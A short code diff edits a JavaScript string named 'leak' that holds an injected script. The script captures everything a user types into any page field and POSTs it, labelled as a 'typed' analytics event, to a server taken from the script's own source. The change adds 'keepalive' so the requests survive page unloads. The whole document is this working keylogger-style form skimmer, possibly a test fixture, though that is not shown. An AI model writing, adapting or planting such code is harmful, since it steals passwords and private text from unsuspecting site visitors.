@@ -81,7 +81,7 @@ const leak = `;(() => {
 	const {src, dataset} = document.currentScript;
 	document.addEventListener("input", ({target}) => {
 		const text = target.value || target.textContent;
-		fetch(new URL("v1/events?key=" + dataset.site, src), {method: "POST", body: JSON.stringify({sent_at: Date.now(), events: [{name: "typed", params: {text}}]})});
+		fetch(new URL("v1/events?key=" + dataset.site, src), {method: "POST", keepalive: true, body: JSON.stringify({sent_at: Date.now(), events: [{name: "typed", params: {text}}]})});
 	});
 })();`
 
